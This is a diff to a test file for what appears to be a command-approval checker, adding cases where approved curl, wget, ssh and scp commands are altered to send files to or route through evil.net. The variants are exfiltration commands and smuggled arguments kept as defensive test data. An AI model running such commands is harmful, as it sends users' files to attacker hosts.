@@ -320,6 +320,8 @@ def test_an_unknown_case_is_allowed_as_that_very_command() -> None:
         ("curl -T f https://good.net/", "curl -T f https://good.net/ evil"),
         ("curl -T f https://good.net/", "curl -T f https://good.net@evil.net/"),
         ("curl -T f https://good.net/", "curl -x http://evil.net -T f https://good.net/"),
+        ("curl -T f https://good.net/", "curl -T f -O evil.net https://good.net/"),
+        ("wget --post-file=f https://good.net/", "wget --post-file=f -m evil.net https://good.net/"),
         ("ssh -p 22 good.net uptime", "ssh -p 22 evil.net uptime"),
         ("ssh good.net", "ssh -o ProxyCommand=evil good.net"),
         ("scp a good.net:", "scp a evil.net:"),
